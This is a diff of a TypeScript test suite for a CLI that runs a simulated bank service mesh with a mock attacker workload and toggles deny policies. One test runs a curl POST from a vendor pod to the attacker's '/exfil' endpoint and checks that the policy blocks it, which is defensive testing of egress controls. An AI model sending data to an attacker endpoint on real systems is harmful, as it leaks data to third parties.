@@ -1,77 +1,119 @@
+// `trustusbank up` and the commands that drive a running stack, as a user runs them.
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterAll, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, describe, expect, it } from 'vitest';
 import { isAlive, type StackState } from '../src/runtime/stack-state.ts';
 import { runCli, startCli } from './support/cli.ts';
 import { tempDir } from './support/workloads.ts';
 
+interface StatusJson {
+  running: boolean;
+  pods: { namespace: string; workload: string; identity: string; ready: boolean; pid?: number; digest: string; policies: string[] }[];
+  policies: string[];
+}
+
 const data = tempDir();
+afterEach(async () => {
+  // Whatever a test left running is stopped, so that one failure cannot cascade into the next test.
+  await runCli(['down', '--data-dir', data.path]);
+});
 afterAll(() => data.remove());
+/** `trustusbank <args>` on this test's data directory (placed before any `--`, which ends our options). */
+const cli = (args: string[]) => {
+  const split = args.indexOf('--');
+  return runCli(split === -1 ? [...args, '--data-dir', data.path] : [...args.slice(0, split), '--data-dir', data.path, ...args.slice(split)]);
+};
+
+async function waitGone(pids: number[]): Promise<number[]> {
+  // Bounded wait for processes to exit; returns the ones still alive at the deadline.
+  const deadline = Date.now() + 15_000;
+  while (pids.some(isAlive) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
+  return pids.filter(isAlive);
+}
 
 describe('trustusbank up', () => {
-  it('starts every workload, reports them, refuses a second start, and stops them all on Ctrl-C', async () => {
-    const up = startCli(['up', '--data-dir', data.path, '--attacker-port', '0']);
-    await up.waitForLine(/Ctrl-C/);
-    const table = up.lines.join('\n');
-    for (const image of ['trustusbank/account-mcp:1.0.0', 'trustusbank/transaction-mcp:1.0.0', 'trustusbank/ticket-mcp:1.0.0', 'acme-fx/currency-converter:1.0.0', 'trustusbank/mock-attacker:1.0.0']) {
-      expect(table).toContain(image);
-    }
+  it('runs in the background with --detach, answers status, get, policies and logs, and stops with down', async () => {
+    const up = await cli(['up', '--detach', '--attacker-port', '0']);
+    expect(up.code).toBe(0);
+    expect(up.stdout).toMatch(/Ready: 5 pods/);
+    expect(up.stdout).toMatch(/external-attacker\/mock-attacker +http:\/\/127\.0\.0\.1:\d+\//);
 
-    const state = JSON.parse(readFileSync(join(data.path, 'run', 'stack.json'), 'utf8')) as StackState;
-    expect(state.workloads.map((w) => w.name)).toEqual(['account-mcp', 'transaction-mcp', 'ticket-mcp', 'currency-converter', 'mock-attacker']);
-    for (const workload of state.workloads) {
-      const health = (await (await fetch(`${workload.url}/healthz`)).json()) as { status: string; workload: string };
-      expect(health).toMatchObject({ status: 'ok', workload: workload.name });
-    }
+    const status = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
+    expect(status.running).toBe(true);
+    expect(status.pods.every((p) => p.ready && p.digest.startsWith('sha256:'))).toBe(true);
+    expect(status.pods.find((p) => p.workload === 'currency-converter')?.identity).toBe('spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter');
+    const human = await cli(['status']);
+    expect(human.stdout).toContain('spiffe://cluster.local/ns/trustusbank-bank-mcp/sa/account-mcp');
+    expect(human.stdout).toMatch(/none \(every connection is allowed/);
 
-    const status = await runCli(['status', '--json', '--data-dir', data.path]);
-    expect(status.code).toBe(0);
-    expect((JSON.parse(status.stdout) as { workloads: { health: string }[] }).workloads.map((w) => w.health)).toEqual(Array(5).fill('ready'));
+    const on = await cli(['policies', 'on']);
+    expect(on.code).toBe(0);
+    expect(on.stdout).toContain('AuthorizationPolicy external-attacker/deny-bank-to-attacker created');
+    const withPolicies = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
+    expect(withPolicies.pods.find((p) => p.workload === 'mock-attacker')?.policies).toEqual(['external-attacker/deny-bank-to-attacker']);
+    const policies = await cli(['get', 'ap', '-n', 'external-attacker', '-o', 'yaml']);
+    expect(policies.stdout).toMatch(/name: deny-bank-to-attacker[\s\S]*action: DENY/);
+    const table = await cli(['get', 'authorizationpolicies']);
+    expect(table.stdout).toMatch(/trustusbank-bank-mcp +default-deny +ALLOW/);
 
-    const again = await runCli(['up', '--data-dir', data.path, '--attacker-port', '0']);
+    const denied = await cli(['exec', '-n', 'trustusbank-bank-vendors', 'currency-converter', '--', 'trustusbank', 'curl', '-X', 'POST', '-d', '{}', 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil']);
+    expect(denied.code).toBe(56);
+    const ztunnel = await cli(['logs', 'ztunnel', '--tail', '50']);
+    expect(ztunnel.stdout).toContain('explicitly denied by: external-attacker/deny-bank-to-attacker');
+    const podLog = await cli(['logs', '-n', 'trustusbank-bank-mcp', 'account-mcp']);
+    expect(podLog.stdout).toContain('"msg":"listening"');
+
+    expect((await cli(['policies', 'off'])).stdout).toContain('Mesh policies are off.');
+    expect((JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson).policies).toEqual([]);
+
+    const again = await cli(['up', '--attacker-port', '0']);
     expect(again.code).toBe(1);
     expect(again.stderr).toMatch(/already running .*pid \d+/);
 
-    up.child.kill('SIGINT');
-    expect(await up.exited).toBe(0);
-    expect(up.lines).toContain('Stopped.');
-    for (const workload of state.workloads) expect(isAlive(workload.pid)).toBe(false);
-
-    const after = await runCli(['status', '--data-dir', data.path]);
-    expect(after.code).toBe(3);
-    expect(after.stdout).toMatch(/not running/);
-  });
-
-  it('stops from another terminal with `down`', async () => {
-    const up = startCli(['up', '--data-dir', data.path, '--attacker-port', '0']);
-    await up.waitForLine(/Ctrl-C/);
-    const down = await runCli(['down', '--data-dir', data.path]);
+    const pids = status.pods.map((p) => p.pid!);
+    const down = await cli(['down']);
     expect(down.code).toBe(0);
-    expect(await up.exited).toBe(0);
-  });
+    expect(await waitGone(pids)).toEqual([]);
+    expect((await cli(['status'])).code).toBe(3);
+  }, 120_000);
 
-  it('leaves no workload behind when up itself is killed with SIGKILL', async () => {
+  it('stops every pod on Ctrl-C in the foreground', async () => {
     const up = startCli(['up', '--data-dir', data.path, '--attacker-port', '0']);
     await up.waitForLine(/Ctrl-C/);
     const state = JSON.parse(readFileSync(join(data.path, 'run', 'stack.json'), 'utf8')) as StackState;
-    up.child.kill('SIGKILL');
-    await up.exited;
-    // Each workload sees its stdin pipe close and shuts down; wait (bounded) for all of them to be gone.
-    const deadline = Date.now() + 15_000;
-    while (state.workloads.some((w) => isAlive(w.pid)) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
-    expect(state.workloads.filter((w) => isAlive(w.pid)).map((w) => w.name)).toEqual([]);
-    // The stale record does not make the next start refuse.
-    const status = await runCli(['status', '--data-dir', data.path]);
-    expect(status.code).toBe(3);
+    const status = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
+    expect(state.pid).toBe(up.child.pid);
+    up.child.kill('SIGINT');
+    expect(await up.exited).toBe(0);
+    expect(up.lines).toContain('Stopped.');
+    expect(await waitGone(status.pods.map((p) => p.pid!))).toEqual([]);
   });
 
-  it('names the attacker port flag when its port is taken', async () => {
+  it('leaves no pod behind when up itself is killed with SIGKILL', async () => {
+    const up = startCli(['up', '--data-dir', data.path, '--attacker-port', '0']);
+    await up.waitForLine(/Ctrl-C/);
+    const status = JSON.parse((await cli(['status', '--json'])).stdout) as StatusJson;
+    up.child.kill('SIGKILL');
+    await up.exited;
+    // Each pod sees its IPC channel to the engine close and shuts down.
+    expect(await waitGone(status.pods.map((p) => p.pid!))).toEqual([]);
+    expect((await cli(['status'])).code).toBe(3);
+  });
+
+  it('names the flag when the attacker port is taken, and starts nothing', async () => {
     const blocker = startCli(['workload', 'mock-attacker', '--port', '0', '--data-dir', data.path]);
     const { port } = JSON.parse(await blocker.waitForLine(/"msg":"listening"/)) as { port: number };
-    const up = await runCli(['up', '--data-dir', data.path, '--attacker-port', String(port)]);
+    const up = await cli(['up', '--attacker-port', String(port)]);
     blocker.child.kill('SIGTERM');
     await blocker.exited;
     expect(up.code).toBe(1);
-    expect(up.stderr).toContain(`port ${port} on 127.0.0.1 is already in use; choose another with --attacker-port N`);
+    expect(up.stderr).toContain(`port ${port} on 127.0.0.1 (for external-attacker/mock-attacker) is already in use; choose another with --attacker-port N`);
+    expect((await cli(['status'])).code).toBe(3);
+  });
+
+  it('says so when nothing runs', async () => {
+    const result = await cli(['policies', 'on']);
+    expect(result.code).toBe(3);
+    expect(result.stderr).toMatch(/not running/);
   });
 });
